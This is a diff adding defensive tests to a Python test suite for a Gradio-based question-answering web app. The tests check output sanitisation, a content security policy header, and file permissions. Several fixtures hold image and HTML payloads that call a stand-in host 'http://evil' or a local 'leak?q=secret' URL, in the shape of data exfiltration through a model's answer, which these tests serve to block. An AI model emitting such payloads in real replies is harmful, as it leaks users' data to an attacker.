@@ -3,31 +3,40 @@
 from __future__ import annotations
 
 import json
+import logging
+import subprocess
+import sys
 import typing
 from dataclasses import replace
 from pathlib import Path
 from types import SimpleNamespace
 
 import gradio as gr
+import httpx
 import pytest
-from conftest import FAKE_MODEL_ID, index_state
+from conftest import FAKE_MODEL_ID, index_state, modes
+from test_browser import running
 
-from rag.access import check_exposure, is_loopback
+from rag.access import check_exposure, is_loopback, read_api_keys
 from rag.components import Components
-from rag.config import Settings
+from rag.config import REPO_ROOT, Settings
 from rag.errors import InputError, RagError
+from rag.index.chunking import Chunk
 from rag.index.store import DocumentRecord
 from rag.index.uploads import check_upload, safe_upload_name, uploads_dir
 from rag.models.fakes import HashingEmbedder, ScriptedGenerator
 from rag.qa.prompts import REFUSAL
+from rag.qa.retriever import SearchHit
 from rag.web.app import (
     CHAT_QUEUE,
+    CONTENT_SECURITY_POLICY,
     WebApp,
     build_app,
     read_logins,
     serve,
 )
-from rag.web.render import ChatTurn, answer_html, citation_links, document_rows, format_time
+from rag.web.feedback import FeedbackLog
+from rag.web.render import ChatTurn, answer_html, chat_messages, citation_links, document_rows, format_time, sources_html
 
 HENAN = "河南设立的人工智能产业基金规模是多少？"
 HENAN_REPLY = "河南设立了总规模30亿元的人工智能产业基金[1]。"
@@ -115,13 +124,12 @@ def test_refusal_is_shown_as_a_notice(tmp_path, sample_index):
     assert "没有回答这个问题" in sources
 
 
-def test_a_retried_refusal_gives_way_to_the_second_attempt(tmp_path, sample_index):
+def test_a_retried_refusal_is_never_shown(tmp_path, sample_index):
     app = make_app(tmp_path, sample_index, [REFUSAL, HENAN_REPLY])
     steps = list(app.ask(HENAN, []))
     shown = [step[0][-1]["content"] for step in steps if not is_skip(step[0]) and step[0]]
-    assert any(REFUSAL[:6] in text for text in shown[:-1])  # the first attempt streamed its refusal
-    second = [text for text in shown if "河南设立了" in text]
-    assert second and not any(REFUSAL[:6] in text for text in second)  # then the retry streamed alone
+    assert not any(REFUSAL[:6] in text for text in shown)  # the chat shows verified text only
+    assert any("河南设立了" in text for text in shown[:-1])  # the second attempt's answer, streamed
     chat, turns, _ = steps[-1][:3]
     assert not turns[-1].answer.refused and REFUSAL not in chat[-1]["content"] and "30亿元" in chat[-1]["content"]
 
@@ -174,6 +182,38 @@ def test_answer_html_while_streaming():
     assert "正在查找资料" in answer_html(ChatTurn("问题"), 0)
 
 
+LEAKS = "![x](http://evil/?q=1) <img src=http://evil> ![y][r] ![z]\n\n[r]: http://evil/r\n[z]: http://evil/z"
+
+
+def test_chat_messages_carry_no_images():
+    question, reply = "看图 ![q](http://evil/?q=2)", f"30亿元[1]。{LEAKS}"
+    chat = chat_messages([ChatTurn(question, reply), ChatTurn(question, "30亿元[1]。![x](http://evil/?q=se")])
+    for message in chat:
+        assert "](http://evil" not in message["content"] and "<img" not in message["content"]
+        assert "![" not in message["content"]  # reference images too: a link at most
+    assert chat[1]["content"].startswith('30亿元<a class="rag-cite"') and "x &lt;img src=http://evil&gt;" in chat[1]["content"]
+    assert chat[0]["content"] == "看图 q"
+
+
+def test_an_image_the_model_writes_is_never_shown_not_even_while_streaming(tmp_path, sample_index):
+    app = make_app(tmp_path, sample_index, replies=HENAN_REPLY + "![](http://127.0.0.1:9/leak?q=secret)")
+    outputs = list(app.ask(HENAN, []))
+    assert all("127.0.0.1:9" not in output[0][-1]["content"] for output in outputs if output[0] != gr.skip())
+    assert "30亿元" in outputs[-1][0][-1]["content"]
+
+
+def test_every_response_carries_the_content_security_policy(tmp_path):
+    with running(make_app(tmp_path, None)) as url:
+        for path in ("", "config", "gradio_api/info", "no-such-page"):
+            assert httpx.get(url + path).headers["content-security-policy"] == CONTENT_SECURITY_POLICY
+
+
+def test_passages_show_markup_and_images_as_text(tmp_path):
+    chunk = Chunk("c1", "d1", "标题<img src=http://evil>", "/a.txt", "正文![](http://evil/p)<iframe src=http://evil>", 0)
+    panel = sources_html([ChatTurn("问", passages=[SearchHit(1, chunk, 0.5, True)])])
+    assert "<img" not in panel and "<iframe" not in panel and "&lt;iframe src=http://evil&gt;" in panel
+
+
 # --------------------------------------------------------------------------- feedback
 
 
@@ -192,6 +232,14 @@ def test_feedback_line_has_the_answer_and_its_sources(tmp_path, sample_index):
     assert first["citations"][0]["n"] == 1 and first["citations"][0]["verified"] is True
     assert first["passage_chunk_ids"] == [hit.chunk.chunk_id for hit in turns[0].passages]
     assert first["time"] and "user" in first
+
+
+def test_the_feedback_log_and_its_folder_are_owner_only_whatever_the_umask(tmp_path, umask):
+    log = FeedbackLog(tmp_path / "feedback" / "feedback.jsonl")
+    log.append({"vote": "up"})
+    log.append({"vote": "down"})
+    assert modes(tmp_path / "feedback") == {".": 0o700, "feedback.jsonl": 0o600}
+    assert len(log.path.read_text(encoding="utf-8").splitlines()) == 2
 
 
 def test_feedback_without_an_answer_is_not_written(tmp_path):
@@ -317,6 +365,36 @@ def test_missing_auth_file_is_refused(tmp_path):
         read_logins(tmp_path / "nope.txt")
 
 
+def test_auth_and_key_files_others_can_read_get_a_warning(tmp_path, caplog):
+    auth, keys = tmp_path / "auth.txt", tmp_path / "keys.txt"
+    auth.write_text("alice:s3cret\n", encoding="utf-8")
+    keys.write_text("k" * 16 + "\n", encoding="utf-8")
+    for path, mode in ((auth, 0o644), (keys, 0o620)):
+        path.chmod(mode)
+    with caplog.at_level(logging.WARNING, logger="rag.access"):
+        read_logins(auth)
+        read_api_keys(keys)
+    assert caplog.messages == [
+        f"the auth file {auth} can be read or changed by other users (mode 0644); run `chmod 600 {auth}`",
+        f"the API keys file {keys} can be read or changed by other users (mode 0620); run `chmod 600 {keys}`",
+    ]
+    caplog.clear()
+    auth.chmod(0o600)
+    keys.chmod(0o400)
+    read_logins(auth)
+    read_api_keys(keys)
+    assert caplog.messages == []
+
+
+def test_the_warning_about_a_shared_keys_file_is_a_line_on_stderr(tmp_path):
+    keys = tmp_path / "keys.txt"
+    keys.write_text("k" * 16 + "\n", encoding="utf-8")
+    keys.chmod(0o644)
+    code = f"from rag.access import read_api_keys; read_api_keys({str(keys)!r})"  # no logging set up, as in `rag api`
+    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=REPO_ROOT, check=True)
+    assert run.stderr == f"the API keys file {keys} can be read or changed by other users (mode 0644); run `chmod 600 {keys}`\n"
+
+
 @pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "::1", "127.1.2.3"])
 def test_loopback_hosts(host):
     assert is_loopback(host)
@@ -404,6 +482,22 @@ def test_probe_shows_three_ranked_lists(tmp_path, sample_index):
     assert [f'data-mode="{m}"' in page for m in ("dense", "bm25", "hybrid")] == [True, True, True]
     assert page.count('class="rag-hit"') == 9
     assert "请先输入问题" in app.probe("  ", 3)
+
+
+@pytest.mark.parametrize(("sent", "used"), [(10**6, 20), (-5, 1), (0, 1), (7.0, 7)])
+def test_probe_holds_k_to_the_slider_whatever_the_browser_sends(tmp_path, sample_index, monkeypatch, sent, used):
+    app = make_app(tmp_path, sample_index)
+    retriever = app.models.retriever()
+    asked: list[int] = []
+    rankings = retriever.rankings
+
+    def spy(query: str, k: int, where=None):
+        asked.append(k)
+        return rankings(query, k, where)
+
+    monkeypatch.setattr(retriever, "rankings", spy)
+    assert 'data-mode="hybrid"' in app.probe(HENAN, sent)
+    assert asked == [used]
 
 
 def test_conversations_are_saved_reopened_renamed_and_deleted(tmp_path, sample_index):
